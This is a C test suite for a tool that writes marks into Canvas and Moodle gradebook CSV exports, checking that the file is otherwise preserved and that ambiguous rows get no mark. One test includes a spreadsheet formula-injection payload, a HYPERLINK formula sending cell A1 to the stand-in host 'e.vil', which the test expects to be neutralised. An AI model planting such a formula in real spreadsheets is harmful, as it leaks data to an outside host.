/*
 * export: marks filled into a table that comes from elsewhere.  It comes back
 * byte for byte but for the marks, and nobody gets those of somebody else.
 */
#include "exported.h"

static void expect_filled(int status, const char *format, const char *column,
                          const char *before, const char *after,
                          const char *const told[])
{
    struct recording seen;
    const char *path = hostile_file("into.csv");
    write_text(path, before);
    if (!EXPORT(&seen, status, format, "--into", path, "--out", path,
                "--column", column, NULL))
        return;
    char *text = text_of(hostile_file("into.csv"));
    EXPECT(strcmp(text, after) == 0, "it became\n%s\nand not\n%s", text, after);
    free(text);
    for (size_t i = 0; told[i] != NULL; i++)
        expect_told(&seen, told[i]);
    EXPECT(strstr(seen.err.text, "Student, Test") == NULL &&
               strstr(seen.err.text, "table:  ") == NULL,
           "rows of nobody's are missed: %s", seen.err.text);
    recording_free(&seen);
}

static void a_gradebook_stays_as_it_is(void)
{
    expect_filled(
        1, "canvas", "Labs",
        "\xef\xbb\xbfStudent,ID,SIS User ID,SIS Login ID,Section,"
        "\"Labs (1234)\",Final Score\r\n"
        ",,,,,Manual Posting,\r\n"
        "    Points Possible,,,,,200.00,(read only)\r\n"
        "\"M\xc3\xbcller, Ann\",77,1001, ann ,\"S \"\"1\"\", a\",5.00,=1+1\r\n"
        "\"Cid\",78,1003,cid,S1,7.00,x\n"
        "Bob,79,-5,-bob,S1\r\n"
        "\"Fay\",80,,,S1,,x\r\n"
        "Nobody,81,9999,zoe,S1,1,x\r\n"
        "Mixed,82,1004,eve,S1,2,x\r\n"
        "\"Student, Test\",1,,,S1,,\r\n"
        "\r\n"
        "Up,,,UP,S1,,",
        "\xef\xbb\xbfStudent,ID,SIS User ID,SIS Login ID,Section,"
        "\"Labs (1234)\",Final Score\r\n"
        ",,,,,Manual Posting,\r\n"
        "    Points Possible,,,,,200.00,(read only)\r\n"
        "\"M\xc3\xbcller, Ann\",77,1001, ann ,\"S \"\"1\"\", a\",200,=1+1\r\n"
        "\"Cid\",78,1003,cid,S1,7.00,x\n"
        "Bob,79,-5,-bob,S1,50\r\n"
        "\"Fay\",80,,,S1,0,x\r\n"
        "Nobody,81,9999,zoe,S1,1,x\r\n"
        "Mixed,82,1004,eve,S1,2,x\r\n"
        "\"Student, Test\",1,,,S1,,\r\n"
        "\r\n"
        "Up,,,UP,S1,,",
        (const char *const[]){
            "row 8 of the table: Nobody is not in the class",
            "row 9 of the table: Mixed could be more than one student",
            "dee of the class is not in the table",
            "eve of the class is not in the table",
            "2 of the answers have no mark", NULL});
}

static void a_gradebook_may_get_a_new_column(void)
{
    expect_filled(1, "canvas", FORMULA,
                  "Student;ID;SIS Login ID;Section\n"
                  "    Points Possible;;;\n"
                  "ann m\xc3\xbcller;;;\"a;b\"\n",
                  "Student;ID;SIS Login ID;Section;"
                  "\"'=HYPERLINK(\"\"http://e.vil/?\"\"&A1,\"\"x\"\")\"\n"
                  "    Points Possible;;;;200\n"
                  "ann m\xc3\xbcller;;;\"a;b\";200\n",
                  (const char *const[]){"fay of the class is not in", NULL});
}

/* One name, two rows; and a number that is another student's elsewhere. */
static void a_doubtful_row_gets_no_mark(void)
{
    expect_filled(
        1, "canvas", "L",
        "Student,ID,SIS Login ID,Section,L\nFay,1,,,\nFay,2,,,\n"
        "Cid,1001,,,3\n",
        "Student,ID,SIS Login ID,Section,L\nFay,1,,,\nFay,2,,,\n"
        "Cid,1001,,,3\n",
        (const char *const[]){"row 2 of the table: Fay could be more than one",
                              "row 4 of the table: Cid could be more than one",
                              "fay of the class is in the table twice", NULL});
    expect_filled(
        1, "canvas", "L",
        "Student,ID,SIS Login ID,Section,L\nPoints Possible,,,,10\n"
        "x,,ann,,\n",
        "Student,ID,SIS Login ID,Section,L\nPoints Possible,,,,200\n"
        "x,,ann,,200\n",
        (const char *const[]){"\"L\" had 10 points, and has 200", NULL});
}

/* Canvas calls files by the letters of the name, and so they are an id. */
static void an_id_may_be_made_of_the_name(void)
{
    expect_filled(1, "canvas", "L",
                  "Student,ID,SIS Login ID,Section,L\n\"Fa, Y\",9,,,\n",
                  "Student,ID,SIS Login ID,Section,L\n\"Fa, Y\",9,,,0\n",
                  (const char *const[]){"ann of the class is not in", NULL});
    expect_filled(1, "canvas", "L",
                  "Student,ID,SIS Login ID,Section,L\n\"Y, Fa\",9,,,\n",
                  "Student,ID,SIS Login ID,Section,L\n\"Y, Fa\",9,,,0\n",
                  (const char *const[]){"ann of the class is not in", NULL});
}

static void a_worksheet_is_filled_in(void)
{
    struct recording seen;
    const char *path = hostile_file("sheet.csv");
    write_text(path, "Identifier,Full name,Email address,Status,Grade,"
                     "\"Maximum Grade\",\"Feedback comments\"\n"
                     "\"Participant 5\",\"Ann M.\",ann@x.edu,-,,200.00,\n"
                     "\"Participant 1003\",Cid,,-,1,200.00,old\n");
    if (!EXPORT(&seen, 1, "moodle", "--into", path, NULL))
        return;
    const char *ann = strstr(seen.out.text, "\"Participant 5\"");
    const char *says = "\"Participant 5\",\"Ann M.\",ann@x.edu,-,200,200.00,"
                       "\"200 of 200 points.<br>";
    EXPECT(ann != NULL && strncmp(ann, says, strlen(says)) == 0, "it is %s",
           seen.out.text);
    EXPECT(
        strstr(seen.out.text, "\n\"Participant 1003\",Cid,,-,1,200.00,old\n"),
        "who has no mark loses one: %s", seen.out.text);
    recording_free(&seen);
}

static void strange_tables_are_refused(void)
{
    struct recording seen;
    static const char *const strange[][3] = {
        {"canvas", "a,b\n", "not a gradebook as Canvas exports it"},
        {"canvas", "", "it is empty"},
        {"canvas", "Student,ID\n\"x", "line 2 begins a quote"},
        {"canvas", "Student,ID,Attached,Attached\n", "two columns are called"},
        {"canvas", "Student,ID,Attached\nPoints Possible,,(read only)\n",
         "is computed by Canvas"},
        {"moodle", "Identifier,Grade\n", "offline grading worksheet"},
    };
    for (size_t i = 0; i < COUNT(strange); i++) {
        const char *path = hostile_file("strange.csv");
        write_text(path, strange[i][1]);
        if (EXPORT(&seen, 2, strange[i][0], "--into", path, NULL)) {
            expect_told(&seen, strange[i][2]);
            recording_free(&seen);
        }
    }
    int fd = open(hostile_file("strange.csv"), O_WRONLY | O_TRUNC | O_CLOEXEC);
    if (fd == -1 || write(fd, "S\0t\0", 4) != 4 || close(fd) == -1)
        err(REPORT_UNTESTED, "strange.csv");
    if (EXPORT(&seen, 2, "canvas", "--into", hostile_file("strange.csv"),
               NULL)) {
        expect_told(&seen, "a NUL byte");
        recording_free(&seen);
    }
}

int main(int argc, char *argv[])
{
    static const struct named_test tests[] = {
        {"a gradebook stays as it is, but for the marks",
         a_gradebook_stays_as_it_is, 0},
        {"a gradebook may get a new column", a_gradebook_may_get_a_new_column,
         0},
        {"a doubtful row gets no mark", a_doubtful_row_gets_no_mark, 0},
        {"an id may be made of the name", an_id_may_be_made_of_the_name, 0},
        {"a worksheet of Moodle is filled in", a_worksheet_is_filled_in, 0},
        {"strange tables are refused", strange_tables_are_refused, 0},
    };
    hostile_begin();
    exported_begin();
    return report_main("lab/export_fill", tests, COUNT(tests), argc, argv);
}
